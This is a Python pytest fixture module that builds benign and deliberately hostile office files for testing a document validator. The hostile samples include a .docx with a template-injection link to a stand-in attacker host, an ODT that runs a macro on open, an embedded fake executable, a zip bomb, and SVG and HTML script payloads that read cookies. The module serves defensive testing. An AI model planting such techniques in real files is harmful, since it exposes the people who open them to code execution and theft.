"""Files for the documents' tests: acceptable ones of each type, and hostile ones."""

import io
import zipfile

from PIL import Image

PDF = (
    b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
    b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
)


# Every member's date in the archives: fixed, so that a file is the same bytes in every process. The files
# are test parameters, whose ids pytest-xdist compares between its workers: a member dated "now" differed
# when two workers collected on either side of a two-second boundary, and the run stopped.
MEMBER_DATE = (2026, 1, 1, 0, 0, 0)


def _write(archive: zipfile.ZipFile, name: str, data, compress_type: int | None = None) -> None:
    member = zipfile.ZipInfo(name, date_time=MEMBER_DATE)
    member.external_attr = 0o600 << 16  # as writestr gives a member named by a string
    archive.writestr(
        member, data, compress_type=archive.compression if compress_type is None else compress_type
    )


def image(fmt: str = "PNG", size=(40, 30)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (20, 120, 200)).save(out, format=fmt)
    return out.getvalue()


OOXML_TYPES = {
    "docx": (
        "word/document.xml",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    ),
    "xlsx": ("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
    "pptx": (
        "ppt/presentation.xml",
        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
    ),
}


def ooxml(kind: str = "docx", extra: dict[str, bytes] | None = None, macro: bool = False) -> bytes:
    part, content_type = OOXML_TYPES[kind]
    if macro:
        content_type = content_type.replace(".main+xml", ".macroEnabled.main+xml")
    types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/{part}" ContentType="{content_type}"/></Types>'
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        _write(archive, "[Content_Types].xml", types)
        _write(archive, "_rels/.rels", "<Relationships/>")
        _write(archive, part, "<document>Programme of the day</document>")
        for name, data in (extra or {}).items():
            _write(archive, name, data)
    return out.getvalue()


ODF_CONTENT = (
    '<?xml version="1.0" encoding="UTF-8"?><office:document-content'
    ' xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
    ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.3">'
    "<office:scripts/><office:body><office:text><text:p>Programme of the day</text:p></office:text>"
    "</office:body></office:document-content>"
)


def odf(kind: str = "text", extra: dict[str, bytes] | None = None, content: str = ODF_CONTENT) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        _write(archive, "mimetype", f"application/vnd.oasis.opendocument.{kind}", zipfile.ZIP_STORED)
        _write(archive, "content.xml", content)
        _write(archive, "META-INF/manifest.xml", "<manifest/>")
        for name, data in (extra or {}).items():
            _write(archive, name, data)
    return out.getvalue()


def relationships(*relations: tuple[str, str] | tuple[str, str, str]) -> str:
    """A .rels part: (type, target) or (type, target, "External"); a short type is an officeDocument one."""
    out = [
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    ]
    for number, (kind, target, *mode) in enumerate(relations, 1):
        if "/" not in kind:
            kind = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
        external = f' TargetMode="{mode[0]}"' if mode else ""
        out.append(f'<Relationship Id="rId{number}" Type="{kind}" Target="{target}"{external}/>')
    return "".join(out) + "</Relationships>"


# The start of an OLE compound file, as an embedded object or an old .doc begins.
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 200


def docx_with_ole_object() -> bytes:
    return ooxml(
        "docx",
        extra={
            "word/_rels/document.xml.rels": relationships(("oleObject", "embeddings/oleObject1.bin")),
            "word/embeddings/oleObject1.bin": OLE,
        },
    )


def pptx_with_embedded_program() -> bytes:
    return ooxml(
        "pptx",
        extra={
            "ppt/slides/_rels/slide1.xml.rels": relationships(("package", "../embeddings/setup.exe")),
            "ppt/embeddings/setup.exe": WINDOWS_EXE,
        },
    )


def xlsx_with_activex_control() -> bytes:
    return ooxml(
        "xlsx",
        extra={
            "xl/worksheets/_rels/sheet1.xml.rels": relationships(("control", "../activeX/activeX1.xml")),
            "xl/activeX/activeX1.xml": b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>',
            "xl/activeX/_rels/activeX1.xml.rels": relationships(
                (
                    "http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary",
                    "activeX1.bin",
                )
            ),
            "xl/activeX/activeX1.bin": OLE,
        },
    )


def docx_with_external_template(url: str = "http://attacker.example/template.dotm") -> bytes:
    """Template injection: Word fetches the "template" when the document is opened, and runs its macros."""
    return ooxml(
        "docx",
        extra={"word/_rels/settings.xml.rels": relationships(("attachedTemplate", url, "External"))},
    )


def ordinary_office_file(kind: str) -> bytes:
    """What real documents hold: images, a web link and, in a presentation, a chart with its data."""
    folder = {"docx": "word", "xlsx": "xl", "pptx": "ppt"}[kind]
    extra = {
        f"{folder}/_rels/{OOXML_TYPES[kind][0].split('/')[1]}.rels": relationships(
            ("image", "media/image1.png"), ("hyperlink", "https://example.org/programme", "External")
        ),
        f"{folder}/media/image1.png": image(),
    }
    if kind == "pptx":
        extra["ppt/charts/chart1.xml"] = b"<c:chartSpace/>"
        extra["ppt/charts/_rels/chart1.xml.rels"] = relationships(
            ("package", "../embeddings/Microsoft_Excel_Worksheet.xlsx")
        )
        extra["ppt/embeddings/Microsoft_Excel_Worksheet.xlsx"] = ooxml("xlsx")
    return ooxml(kind, extra=extra)


ODF_NAMESPACES = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
    ' xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
    ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
    ' xmlns:xlink="http://www.w3.org/1999/xlink"'
)


def odt_with_macro_on_open() -> bytes:
    """No macro inside, but opening the document calls one installed on the reader's computer."""
    return odf(
        "text",
        content=(
            f"<office:document-content {ODF_NAMESPACES}><office:scripts><office:event-listeners>"
            '<script:event-listener script:language="ooo:script" script:event-name="office:load"'
            ' xlink:href="vnd.sun.star.script:Tools.Misc.Run?language=Basic&amp;location=application"/>'
            "</office:event-listeners></office:scripts><office:body/></office:document-content>"
        ),
    )


def odt_with_link_to_a_script() -> bytes:
    return odf(
        "text",
        content=(
            f"<office:document-content {ODF_NAMESPACES}><office:body><office:text><text:p>"
            '<text:a xlink:href="vnd.sun.star.script:pythonSamples|TableSample.py$createTable?language=Python'
            '&amp;location=share">programme</text:a></text:p></office:text></office:body></office:document-content>'
        ),
    )


def odt_with_ole_object() -> bytes:
    return odf("text", extra={"Object 1": OLE, "ObjectReplacements/Object 1": image()})


def ordinary_odt() -> bytes:
    """Pictures and a chart (an embedded OpenDocument object with its replacement image) are ordinary."""
    return odf(
        "text",
        extra={
            "Pictures/photo.png": image(),
            "Object 1/content.xml": b"<office:document-content/>",
            "Object 1/styles.xml": b"<office:document-styles/>",
            "ObjectReplacements/Object 1": image(),
        },
    )


def zip_bomb_docx(unpacked: int = 8 * 1024 * 1024) -> bytes:
    """A .docx with a member of zeros that compresses about a thousand times."""
    return ooxml("docx", extra={"word/media/padding.bin": b"\0" * unpacked})


def plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        _write(archive, "notes.txt", "hello")
    return out.getvalue()


# A Windows program (the "MZ" header and the PE signature) that someone named report.pdf.
WINDOWS_EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\0" * 44
    + b"\x80\0\0\0"
    + (b"\0" * 64)
    + b"PE\0\0L\x01\x03\x00"
    + b"\0" * 200
)
SVG_WITH_SCRIPT = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b'<script>alert(document.cookie)</script><rect width="10" height="10"/></svg>'
)
HTML = b"<!doctype html><html><body><script>alert(1)</script></body></html>"
